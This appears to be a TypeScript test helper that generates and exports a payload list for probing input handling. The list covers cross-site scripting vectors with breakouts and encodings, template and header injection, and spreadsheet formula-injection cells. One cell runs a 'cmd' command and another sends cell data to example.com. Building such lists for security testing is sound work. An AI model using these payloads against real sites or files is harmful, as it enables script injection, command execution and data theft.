/** A script that tells of itself by a dialog. */
const RUN = 'alert(1)';

const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script src=data:,${RUN}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src/onerror=${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}">`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form><button formaction=javascript:${RUN}>x`,
  `<link rel=stylesheet href="data:text/css,*{x:1}">`,
  `<style>@import'//example.com'</style><style onload=${RUN}>`,
  `<base href=javascript:${RUN}//>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<x onpointerrawupdate=${RUN} style=position:fixed;inset:0>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
] as const;

/** What closes the place where the text may stand. */
const BREAKOUTS = ['', '">', "'>", '</script>', '</textarea>', '</title>', '</style>', '-->', ']]>', '`${1}`', '\\"-alert(1)-"'] as const;

const ENCODED = [
  (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text: string) => text.replaceAll('<', '&#60;'),
  (text: string) => text.replaceAll('<', '\\u003c'),
  (text: string) => encodeURIComponent(text),
  (text: string) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
] as const;

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `[x](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
  '__proto__',
  'constructor',
  '%s%n%x',
  'x\r\nBcc: victim@example.com',
  `x\r\n\r\n<script>${RUN}</script>`,
  'x\u2028x\u2029x\u202ex',
] as const;

const SIGNS = ['=', '+', '-', '@', '\t=', '\r=', ' =', '\uff1d', ';=', 'x;=', 'x\t@', 'x|-', 'x\n=', '"=', "'\n+"] as const;
/** Cells that a spreadsheet would run. */
export const formulas: readonly string[] = SIGNS.flatMap((sign) => [
  `${sign}1+1`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("https://example.com/?"&A1)`,
]);

const all: readonly string[] = [
  ...BREAKOUTS.flatMap((breakout) => MARKUP.map((markup) => breakout + markup)),
  ...ENCODED.flatMap((encode) => MARKUP.slice(0, 20).map(encode)),
  ...TEMPLATES,
  ...formulas,
];

/** So many texts that would do something where they are taken for more than text; spread evenly over the kinds. */
export function payloads(count: number): readonly string[] {
  const chosen = Math.min(count, all.length);
  return Array.from({ length: chosen }, (_, i) => String(all[Math.floor((i * all.length) / chosen)]));
}
